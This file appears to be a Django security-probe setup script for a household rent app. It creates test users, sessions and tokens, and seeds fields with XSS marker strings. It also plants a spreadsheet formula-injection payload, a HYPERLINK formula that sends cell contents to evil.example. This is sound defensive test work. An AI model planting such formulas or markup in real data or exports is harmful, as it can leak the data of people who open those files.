"""The security probe's household (bench/probe.py): run inside the project (`python
bench/probe_setup.py` with the probe's environment) after the real data is imported. Makes the
eleven kinds of caller, the hostile text in every kind of field, a statement upload to map, and
prints one JSON document: sessions, tokens, ids and every URL of the resolver with real ids."""

import importlib
import json
import os
import re
import sys
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO_ROOT))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "kimonokittens.settings")

PASSWORD = "probe-password-1234"
XSS_FIELDS = [
    "tenant name",
    "tenant payer names",
    "tenant email",
    "room name",
    "room description",
    "item name",
    "item description",
    "payment reference",
    "payment message",
    "payment note",
    "saved month title",
    "page title",
    "page body",
    "proposal title",
    "proposal summary",
    "proposal body",
    "comment",
    "token name",
    "login first name",
    "claim message",
    "sms text",
]
FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"klicka")'


def hostile(number: int) -> str:
    """A payload that becomes an element <kkxN> if any page prints it unescaped."""
    return f"\"'><kkx{number}>"


def session_for(user) -> str:
    from django.conf import settings

    store = importlib.import_module(settings.SESSION_ENGINE).SessionStore()
    store["_auth_user_id"] = str(user.pk)
    store["_auth_user_backend"] = "django.contrib.auth.backends.ModelBackend"
    store["_auth_user_hash"] = user.get_session_auth_hash()
    store.create()
    return store.session_key


def login(username, *, role=None, tenant=None, staff=True):
    from django.contrib.auth.models import Group, User

    user = User.objects.create_user(username, password=PASSWORD, is_staff=staff)
    if role:
        user.groups.add(Group.objects.get(name=role))
    if tenant is not None:
        tenant.user = user
        tenant.save(update_fields=["user"])
    return user


def regex_path(route, prefix, admin_model, ids) -> str | None:
    """A URL for a pattern written as a regular expression (filled by hand)."""
    pattern = prefix + route
    if "history/" in route and admin_model:
        pk, record = ids["object_ids"].get(admin_model), ids["history_ids"].get(admin_model)
        return f"{prefix}{pk}/history/{record or 999999}/"
    if pattern.startswith("^k/"):
        return f"k/{ids['kiosk_token']}/data/weather"
    if pattern.startswith("api/"):
        return "api/no/such/path"
    if "app_label" in route:
        return prefix + "rent/"
    if pattern.startswith("admin/"):
        return prefix + "no/such/page/"
    return None


def fill(pattern: str, admin_model: str | None, ids) -> str:
    """The pattern with each <converter:name> replaced by a real value."""

    def value(match):
        key = match.group(2)
        if key == "object_id":
            found = ids["object_ids"].get(admin_model) if admin_model else ids["values"]["page_pk"]
            return str(found or 999999)
        if key == "id" or (key == "pk" and admin_model):
            return str(ids["object_ids"].get(admin_model) or 999999)
        if key == "token" and pattern.startswith("k/"):
            return ids["kiosk_token"]
        return str(ids["values"][key])

    return re.sub(r"<(?:(\w+):)?(\w+)>", value, pattern)


def resolver_urls(**ids) -> list[dict]:
    """Every URL of the resolver with real ids: path, name, namespace, pattern (and, for a
    statement, whose it is). The API's GET and POST at one path are one URL."""
    from django.urls import URLResolver, get_resolver
    from django.urls.resolvers import RegexPattern

    urls = {}

    def add(path, entry, namespace, pattern, owner=None):
        urls.setdefault(
            "/" + path,
            {"path": "/" + path, "name": entry.name, "ns": namespace, "pattern": pattern,
             "owner": owner},
        )  # fmt: skip

    def walk(resolver, prefix, namespace):
        for entry in resolver.url_patterns:
            route = str(entry.pattern)
            if isinstance(entry, URLResolver):
                walk(entry, prefix + route, entry.namespace or namespace)
                continue
            pattern = prefix + route
            found = re.match(r"admin/(\w+)/(\w+)/", pattern)
            admin_model = f"{found.group(1)}/{found.group(2)}" if found else None
            if isinstance(entry.pattern, RegexPattern):
                path = regex_path(route, prefix, admin_model, ids)
                if path:
                    add(path, entry, namespace, pattern)
            elif "<int:tenant_id>" in pattern:
                for owner, tenant_pk in ids["owners"].items():
                    path = pattern.replace("<int:tenant_id>", str(tenant_pk))
                    add(path, entry, namespace, pattern, owner)
            else:
                add(fill(pattern, admin_model, ids), entry, namespace, pattern)

    walk(get_resolver(), "", None)
    return list(urls.values())


def export_forms() -> list[dict]:
    """The admin's export forms, CSV and XLSX, with every field ticked."""
    from django.contrib.admin import site

    exports = []
    for model, model_admin in site._registry.items():
        formats = getattr(model_admin, "formats", None)
        resources = getattr(model_admin, "get_export_resource_classes", None)
        if not formats or resources is None:
            continue
        try:
            resource = model_admin.get_export_resource_classes(None)[0]
        except TypeError:
            resource = model_admin.get_export_resource_classes()[0]
        prefix = resource.__name__.lower()
        fields = [
            f"{prefix}_{name}"
            for name in (
                getattr(resource.Meta, "fields", None)
                or [f.column_name for f in resource().get_export_fields()]
            )
        ]
        names = [f.__name__ for f in formats]
        for wanted in ("CSV", "XLSX"):
            if wanted in names:
                exports.append(
                    {
                        "path": f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/",
                        "format": wanted,
                        "data": {
                            "format": str(names.index(wanted)),
                            "resource": "0",
                            **dict.fromkeys(fields, "on"),
                        },
                    }
                )

    return exports


def main():
    import django

    django.setup()
    from django.contrib.admin import site
    from django.contrib.auth.models import Group
    from django.contrib.contenttypes.models import ContentType
    from django.utils import timezone

    from api.models import ApiToken, TokenScope
    from api.tokens import create_token
    from handbook.models import Comment, Page, Proposal, Revision
    from household.roles import MEMBER, TREASURER, ensure_household_roles
    from rent.bank import services as bank_services
    from rent.engine.months import config_month_due_next
    from rent.models import (
        BankUpload,
        CoOwnedItem,
        Payment,
        PaymentClaim,
        RentCalculation,
        Room,
        SmsLog,
        Tenant,
    )

    ensure_household_roles()
    today = timezone.localdate()
    living = list(Tenant.objects.living_here(today).filter(user__isnull=True).order_by("pk"))

    def new_tenant(name, **fields):
        fields.setdefault("start_date", date(2020, 1, 1))
        return Tenant.objects.create(name=name, **fields)

    member_tenant = living[0] if living else new_tenant("Probemedlem")
    moved = Tenant.objects.filter(departure_date__lt=today, user__isnull=True).first()
    moved = moved or new_tenant("Probeflyttad", departure_date=date(2024, 6, 30))
    treasurer = login("probe_kassor", role=TREASURER)
    treasurer2 = login("probe_kassor2", role=TREASURER)
    member = login("probe_medlem", role=MEMBER, tenant=member_tenant)
    moved_out = login("probe_flyttad", role=MEMBER, tenant=moved)
    no_tenant = login("probe_utan", role=MEMBER)
    deactivated = login("probe_avstangd", role=MEMBER, tenant=new_tenant("Probeavstangd"))
    login("probe_offer", role=MEMBER, tenant=new_tenant("Probeoffer"))
    gone = login("probe_kassor_borta", role=TREASURER)
    demoted = login("probe_kassor_ex", role=TREASURER)

    sessions = {
        "member": session_for(member),
        "treasurer": session_for(treasurer),
        "treasurer2": session_for(treasurer2),
        "moved_out": session_for(moved_out),
        "no_tenant": session_for(no_tenant),
        "deactivated": session_for(deactivated),
    }
    made_by = [  # name, scope, creator
        ("read_token", TokenScope.READ, treasurer),
        ("kiosk_token", TokenScope.KIOSK, treasurer),
        ("treasurer_token", TokenScope.TREASURER, treasurer),
        ("stopped_token", TokenScope.TREASURER, gone),
        ("demoted_token", TokenScope.TREASURER, demoted),
        ("moved_token", TokenScope.READ, moved_out),
        ("deactivated_read_token", TokenScope.READ, deactivated),
    ]
    tokens = {
        name: create_token(name=f"probe {name}", scope=scope, created_by=creator)[1]
        for name, scope, creator in made_by
    }
    deactivated.is_active = False
    deactivated.save(update_fields=["is_active"])
    gone.is_active = False
    gone.save(update_fields=["is_active"])
    demoted.groups.remove(Group.objects.get(name=TREASURER))

    # Hostile text in every kind of field, written as an old row or a bypass would.
    field = {name: number for number, name in enumerate(XSS_FIELDS, start=1)}
    h = {name: hostile(number) for name, number in field.items()}
    xss_tenant = new_tenant("Probexss", email="probe@example.org")
    Tenant.objects.filter(pk=xss_tenant.pk).update(
        name=h["tenant name"],
        payer_names=h["tenant payer names"],
        email=f"x{h['tenant email']}@example.org",
    )
    formula_tenant = new_tenant("Probeformel")
    Tenant.objects.filter(pk=formula_tenant.pk).update(name=FORMULA, payer_names=FORMULA)
    room = Room.objects.create(name="Probe room")
    Room.objects.filter(pk=room.pk).update(name=h["room name"], description=h["room description"])
    item = CoOwnedItem.objects.create(name="Probe item", value=Decimal("100"))
    CoOwnedItem.objects.filter(pk=item.pk).update(
        name=h["item name"], description=h["item description"]
    )
    formula_item = CoOwnedItem.objects.create(name="Probe formula", value=Decimal("100"))
    CoOwnedItem.objects.filter(pk=formula_item.pk).update(name=FORMULA, description=FORMULA)
    payment = Payment.objects.create(
        tenant=Tenant.objects.get(pk=xss_tenant.pk),
        paid_on=today - timedelta(days=3),
        amount=Decimal("100"),
        reference=h["payment reference"],
        message=h["payment message"],
        note=h["payment note"],
    )
    calculation = RentCalculation.objects.order_by("-pk").first()
    if calculation is not None:
        RentCalculation.objects.filter(pk=calculation.pk).update(title=h["saved month title"])
    page = Page.objects.order_by("pk").first()
    if page is None:
        page = Page.objects.create(slug="probe", title="Probe", body="Probe")
    Page.objects.filter(pk=page.pk).update(title=h["page title"], body=f"text {h['page body']}")
    page.refresh_from_db()
    proposal = Proposal.objects.create(
        page=page,
        base_revision=page.current_revision,
        title=h["proposal title"],
        body=f"body {h['proposal body']}",
        message=h["proposal summary"],
        author=member,
    )
    comment = Comment.objects.create(proposal=proposal, author=member, body=h["comment"])
    ApiToken.objects.filter(name="probe read_token").update(name=h["token name"])
    type(member).objects.filter(pk=member.pk).update(first_name=h["login first name"])
    claim = PaymentClaim.objects.create(
        tenant=member_tenant, amount=Decimal("10"), paid_on=today, message=h["claim message"]
    )
    sms = SmsLog.objects.create(
        tenant=member_tenant,
        phone="+46700000000",
        kind=SmsLog._meta.get_field("kind").choices[0][0],
        rent_month=config_month_due_next(today),
        sent_on=today,
        amount=Decimal("10"),
        message=h["sms text"],
    )

    statement = (
        "Bokföringsdag;Belopp;Referens;Avsändare\r\n"
        f"{today:%Y-%m-%d};100,00;probe;{h['tenant payer names']}\r\n"
    ).encode("cp1252", errors="replace")
    bank_services.read_upload(statement)
    upload = BankUpload.objects.create(name="probe.csv", content=statement, uploaded_by=treasurer)

    chosen = {
        Tenant: xss_tenant.pk,
        Room: room.pk,
        CoOwnedItem: item.pk,
        Payment: payment.pk,
        Page: page.pk,
        Proposal: proposal.pk,
        ApiToken: ApiToken.objects.get(prefix=tokens["read_token"][:9]).pk,
        type(member): member.pk,
    }
    chosen[PaymentClaim] = claim.pk
    chosen[SmsLog] = sms.pk
    if calculation is not None:
        chosen[RentCalculation] = calculation.pk
    object_ids = {}
    history_ids = {}
    for model in site._registry:
        key = f"{model._meta.app_label}/{model._meta.model_name}"
        pk = chosen.get(model) or model.objects.order_by("pk").values_list("pk", flat=True).first()
        object_ids[key] = pk
        if pk is not None and hasattr(model, "history"):
            record = model.history.filter(id=pk).order_by("-history_id").first()
            history_ids[key] = record.history_id if record is not None else None
    revision = Revision.objects.filter(page=page).order_by("pk").first()
    month = f"{config_month_due_next(today):%Y-%m}"
    values = {
        "month": month,
        "upload_id": upload.pk,
        "pk": proposal.pk,
        "comment_id": comment.pk,
        "slug": page.slug,
        "revision_id": revision.pk if revision else 1,
        "name": "probe.png",
        "uidb64": "MQ",
        "token": "set-password",
        "content_type_id": ContentType.objects.get_for_model(Page).pk,
        "url": "no/such/page/",
        "page_pk": page.pk,
    }

    unique = resolver_urls(
        object_ids=object_ids,
        history_ids=history_ids,
        values=values,
        kiosk_token=tokens["kiosk_token"],
        owners={"member": member_tenant.pk, "moved_out": moved.pk, None: xss_tenant.pk},
    )
    exports = export_forms()
    print(
        "PROBE-JSON "
        + json.dumps(
            {
                "password": PASSWORD,
                "sessions": sessions,
                "tokens": tokens,
                "urls": unique,
                "exports": exports,
                "xss_fields": field,
                "formula": FORMULA,
                "month": month,
                "member_tenant": member_tenant.pk,
                "moved_tenant": moved.pk,
                "formula_tenant": formula_tenant.pk,
                "page_slug": page.slug,
                "object_ids": object_ids,
                "usernames": {
                    "victim": "probe_offer",
                    "treasurer": "probe_kassor",
                },
            }
        )
    )


if __name__ == "__main__":
    if os.environ.get("PROBE_SETUP_DRY_RUN"):  # for working on this file: nothing is kept
        import django

        django.setup()
        from django.db import transaction

        with transaction.atomic():
            main()
            transaction.set_rollback(True)
    else:
        main()
